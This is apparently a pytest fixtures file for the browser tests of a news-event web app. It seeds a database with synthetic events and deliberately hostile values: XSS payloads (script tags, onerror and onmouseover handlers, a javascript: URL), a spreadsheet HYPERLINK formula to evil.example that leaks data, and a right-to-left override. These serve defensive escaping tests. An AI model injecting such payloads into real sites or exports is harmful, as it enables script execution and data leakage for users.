"""Fixtures of the browser tests (imported by conftest.py, so one server and one browser serve
every tests/test_web_browser*.py module in a session).

The database: the seed articles ingested through the CLI (real evidence, real articles), plus
5,000 synthetic events from bench/synthetic.py and a few hostile ones, written through the
store's own API (``Store.replace_events``), so every aggregate the server keeps is built the
way a merge builds it.
"""

from __future__ import annotations

import dataclasses
import json
import os
import socket
import subprocess
import sys
import time
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from conftest import ROOT, run_cli, shared_path

CHROMIUM = Path("/usr/bin/chromium")
ARTIFACTS = ROOT / "test-artifacts"
SYNTHETIC = 5_000
sys.path.insert(0, str(ROOT / "bench"))  # bench/synthetic.py
FLAGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--no-first-run",
    "--disable-sync",
    "--disable-quic",
]
SCRIPT_NAME = "<script>window.__pwned=1</script>Forces"
IMG_PLACE = '<img src=x onerror="window.__pwned=1">'
FORMULA_OUTLET = '=HYPERLINK("http://evil.example/?leak","click me")'
RLO_OUTLET = "Wire\u202eEvil"
HOSTILE_DAY = "2024-03-05"
# An article a scraper might bring back: markup and event handlers in its text and metadata,
# and a link that would run script.
PAYLOAD_OUTLET = 'Test <b onmouseover="window.__pwned=1">Wire</b>'
PAYLOAD_DAY = "2024-07-02"
PAYLOAD_ARTICLE = {
    "title": "<script>window.__pwned=1</script> Soldiers cross "
    '<img src=x onerror="window.__pwned=1">',
    "outlet": PAYLOAD_OUTLET,
    "published": PAYLOAD_DAY,
    "url": "javascript:window.__pwned=1",
    "text": (
        "SEOUL - North Korean soldiers crossed the Military Demarcation Line and retreated "
        "after South Korean troops fired warning shots near <script>window.__pwned=1</script> "
        'Panmunjom <img src=x onerror="window.__pwned=1"> on Tuesday, the Joint Chiefs of '
        "Staff said.\n\nThe crossing was the fourth this year, officials said.\n"
    ),
}


# An article with a web address: the opened event links to it (team-written text).
LINKED_DAY = "2024-08-14"
LINKED_URL = "https://example.org/news/2024/08/14/border-shelling"
LINKED_ARTICLE = {
    "title": "Shells land near a border post",
    "outlet": "Test Wire",
    "published": LINKED_DAY,
    "url": LINKED_URL,
    "text": (
        "SEOUL - North Korean artillery shelled a South Korean border post near Paju on "
        "Wednesday, the Joint Chiefs of Staff said.\n"
    ),
}


def need(condition: bool, why: str) -> None:
    if not condition:
        if os.environ.get("CI"):
            pytest.fail(f"{why} (CI must have it)")
        pytest.skip(why)


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def _status(url: str) -> int:
    try:
        with urllib.request.urlopen(url, timeout=2) as res:
            return int(res.status)
    except OSError:
        return 0


def hostile_events() -> list[Any]:
    """Two events whose values try to run script, inject a spreadsheet formula and reverse
    the text beside them."""
    from synthetic import synthetic_events

    from flashpoint.records import DateValue

    base = synthetic_events(2, seed=99)
    day = DateValue(HOSTILE_DAY, HOSTILE_DAY, "day", "synthetic")
    first, second = base
    assert first.location is not None and second.location is not None
    actor = dataclasses.replace(first.actors[0], name=SCRIPT_NAME, text=SCRIPT_NAME)
    scripted = dataclasses.replace(
        first,
        id="evhostilescript1",
        date=day,
        actors=(actor, *first.actors[1:]),
        location=dataclasses.replace(first.location, name=IMG_PLACE),
        sources=tuple(
            dataclasses.replace(s, outlet=FORMULA_OUTLET, quote=s.quote + " <script>x</script>")
            for s in first.sources[:1]
        ),
        n_outlets=1,
    )
    reversed_ = dataclasses.replace(
        second,
        id="evhostilerlo0001",
        date=day,
        sources=tuple(
            dataclasses.replace(s, outlet=RLO_OUTLET, published=HOSTILE_DAY)
            for s in second.sources[:1]
        ),
        n_outlets=1,
    )
    return [scripted, reversed_]


def build_database(path: Path) -> Path:
    from synthetic import synthetic_events

    from flashpoint.store import Store

    payload = path.parent / "payload.jsonl"
    lines = (json.dumps(PAYLOAD_ARTICLE), json.dumps(LINKED_ARTICLE))
    payload.write_text("\n".join(lines) + "\n", encoding="utf-8")
    proc = run_cli("ingest", str(shared_path("seeds")), str(payload), "--db", str(path))
    assert proc.returncode == 0, proc.stderr
    with Store(path, write=True) as store:
        real = store.events()
        store.replace_events([*real, *synthetic_events(SYNTHETIC, seed=13), *hostile_events()])
    return path


@pytest.fixture(scope="session")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    """`flashpoint serve` (default host, read-only) on the seeds plus 5,000 events."""
    need(CHROMIUM.exists(), f"{CHROMIUM} is not installed (apt-get install chromium)")
    from flashpoint.web.app import vendor_missing

    need(not vendor_missing(), "the page's libraries are not built (make install)")
    db = build_database(tmp_path_factory.mktemp("browser") / "page.db")
    port = _free_port()
    env = {k: v for k, v in os.environ.items() if not k.startswith("FLASHPOINT_")}
    env["FLASHPOINT_EVENTS_SHOW_CONTEXT"] = "1"  # the synthetic events hold every type
    log = tmp_path_factory.mktemp("browser-log") / "serve.log"
    with log.open("wb") as out:
        server = subprocess.Popen(
            [sys.executable, "-m", "flashpoint", "serve", "--db", str(db), "--port", str(port)],
            stdout=out,
            stderr=subprocess.STDOUT,
            env=env,
        )
    base = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + 60
        while _status(base + "/api/health") != 200:
            assert server.poll() is None, log.read_text()
            assert time.monotonic() < deadline, "server did not start"
            time.sleep(0.1)
        yield {"base": base, "db": db, "log": log}
    finally:
        server.terminate()
        server.wait(timeout=10)


@pytest.fixture(scope="session")
def browser(served: dict[str, Any]) -> Iterator[Any]:
    from playwright.sync_api import sync_playwright

    ARTIFACTS.mkdir(exist_ok=True)
    with sync_playwright() as p:
        b = p.chromium.launch(executable_path=str(CHROMIUM), args=FLAGS)
        yield b
        b.close()


def _watched(browser: Any, served: dict[str, Any], **options: Any) -> Iterator[Any]:
    context = browser.new_context(accept_downloads=True, **options)
    pg = context.new_page()
    problems: list[str] = []
    outside: list[str] = []

    def route(r: Any) -> None:
        if r.request.url.startswith(served["base"] + "/"):
            r.continue_()
        else:  # the page must never reach out: offline, no CDN, no tiles
            outside.append(r.request.url)
            r.abort()

    pg.route("**/*", route)
    pg.on("console", lambda m: problems.append(m.text) if m.type == "error" else None)
    pg.on("pageerror", lambda e: problems.append(f"page error: {e}"))
    yield pg
    context.close()
    assert not outside, f"the page requested outside the server: {outside}"
    assert not problems, f"console errors: {problems}"


@pytest.fixture
def page(browser: Any, served: dict[str, Any]) -> Iterator[Any]:
    """A desktop window; any console error or outside request fails the test."""
    yield from _watched(browser, served, viewport={"width": 1400, "height": 1000})


@pytest.fixture
def phone(browser: Any, served: dict[str, Any]) -> Iterator[Any]:
    """A 390 px wide phone screen."""
    yield from _watched(
        browser,
        served,
        viewport={"width": 390, "height": 844},
        device_scale_factor=1,
        is_mobile=True,
        has_touch=True,
    )


def open_page(page: Any, base: str, query: str = "") -> float:
    """Load the page (and its first data); the seconds it took."""
    began = time.perf_counter()
    page.goto(base + "/" + query)
    page.wait_for_selector("body[data-ready='1']", timeout=30_000)
    return time.perf_counter() - began


def wait_ready(page: Any) -> None:
    page.wait_for_selector("body[data-ready='1']", timeout=30_000)


def api_json(page: Any, base: str, path: str) -> Any:
    res = page.request.get(base + path)
    assert res.ok, (path, res.status, res.text())
    return res.json()


def contrast(a: str, b: str = "rgb(255, 255, 255)") -> float:
    """WCAG contrast ratio of two CSS colours (rgb(...) or #rrggbb)."""

    def channels(c: str) -> list[float]:
        if c.startswith("#"):
            return [int(c[i : i + 2], 16) / 255 for i in (1, 3, 5)]
        return [float(x) / 255 for x in c[c.index("(") + 1 : c.index(")")].split(",")[:3]]

    def luminance(c: str) -> float:
        lin = [x / 12.92 if x <= 0.03928 else ((x + 0.055) / 1.055) ** 2.4 for x in channels(c)]
        return 0.2126 * lin[0] + 0.7152 * lin[1] + 0.0722 * lin[2]

    hi, lo = sorted((luminance(a), luminance(b)), reverse=True)
    return (hi + 0.05) / (lo + 0.05)
